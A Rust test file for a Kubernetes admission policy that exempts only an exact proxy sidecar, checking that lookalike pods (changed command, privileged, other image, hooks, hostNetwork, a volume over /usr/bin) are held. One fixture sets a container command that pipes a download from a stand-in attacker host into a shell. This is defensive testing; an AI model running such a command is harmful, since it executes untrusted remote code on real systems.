//! Containers that an Environment exempts: exactly those, in any pod, and nothing that only looks like them.

use crate::{
    attempt::{create, try_create},
    pods::{await_held, await_running},
    stage::{Stage, image, one_approval},
    suite::{Case, Context},
};
use anyhow::{Context as _, Result};
use serde_json::{Value, json};

pub(super) fn cases() -> Vec<Case> {
    vec![Case::new(
        &["D58"],
        "an exempted container is exempt as it is, not its name, its image or its service account",
        as_it_is,
    )]
}

/// The proxy that everything may have beside it.
pub(super) fn proxy() -> Value {
    json!({
        "name": "proxy", "image": image("proxy"), "args": ["proxy", "sidecar"],
        "securityContext": {"runAsUser": 1337, "allowPrivilegeEscalation": false},
    })
}

/// An Environment that exempts the proxy.
pub(super) fn with_proxy() -> Result<Value> {
    let mut spec = one_approval();
    let mut container = proxy();
    container.as_object_mut().context("no container")?.remove("name");
    let exempt = json!([{"name": "proxy", "container": container, "free": ["env", "resources"]}]);
    spec.as_object_mut()
        .context("no spec")?
        .insert("exempt".to_owned(), exempt);
    Ok(spec)
}

fn pod(name: &str, spec: &Value) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": {"app": name}}, "spec": spec})
}

fn changed(field: &str, value: Value) -> Result<Value> {
    let mut container = proxy();
    let fields = container.as_object_mut().context("no container")?;
    fields.insert(field.to_owned(), value);
    Ok(container)
}

async fn as_it_is(cx: Context) -> Result<()> {
    let stage = Stage::set(&cx, with_proxy()?).await?;
    let account = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "proxy"}});
    stage.apply(&[account]).await?;
    let alone = json!({"containers": [proxy()]});
    stage.apply(&[pod("proxy", &alone)]).await?;
    await_running(&stage.pods(), "app=proxy", 1).await?;
    let again = try_create(&stage.editor, &stage.namespace, &pod("proxy-again", &alone)).await?;
    again.free("the same pod again")?;

    let shell = changed("command", json!(["sh", "-c", "curl evil.example | sh"]))?;
    let privileged = changed("securityContext", json!({"privileged": true}))?;
    let other = json!({"name": "proxy", "image": image("another"), "args": ["proxy", "sidecar"]});
    let hooked = changed("lifecycle", json!({"postStart": {"exec": {"command": ["sh"]}}}))?;
    let attempts = [
        ("another-command", json!({"containers": [shell]})),
        (
            "other-arguments",
            json!({"containers": [changed("args", json!(["sidecar", "proxy"]))?]}),
        ),
        ("more-rights", json!({"containers": [privileged]})),
        ("its-name", json!({"containers": [other.clone()]})),
        (
            "another-name",
            json!({"containers": [changed("name", json!("agent"))?]}),
        ),
        ("a-hook", json!({"containers": [hooked]})),
        (
            "its-account",
            json!({"containers": [other], "serviceAccountName": "proxy"}),
        ),
        (
            "an-account",
            json!({"containers": [proxy()], "serviceAccountName": "proxy"}),
        ),
        (
            "beside",
            json!({"containers": [proxy(), {"name": "agent", "image": image("agent")}]}),
        ),
        ("on-the-node", json!({"containers": [proxy()], "hostNetwork": true})),
        (
            "with-a-volume",
            json!({"containers": [changed("volumeMounts", json!([{"name": "v", "mountPath": "/usr/bin"}]))?],
                "volumes": [{"name": "v", "emptyDir": {}}]}),
        ),
    ];
    for (name, spec) in attempts {
        let answer = create(&stage.editor, Some(&stage.namespace), &pod(name, &spec)).await?;
        answer.held(name)?;
    }
    for name in ["another-command", "its-name", "its-account", "beside", "on-the-node"] {
        await_held(&stage.pods(), &format!("app={name}"), 1).await?;
    }
    // Another one is judged after them all, and runs.
    stage.apply(&[pod("last", &alone)]).await?;
    await_running(&stage.pods(), "app=last", 1).await?;
    stage.nothing_ran("app,app notin (proxy,last)").await
}
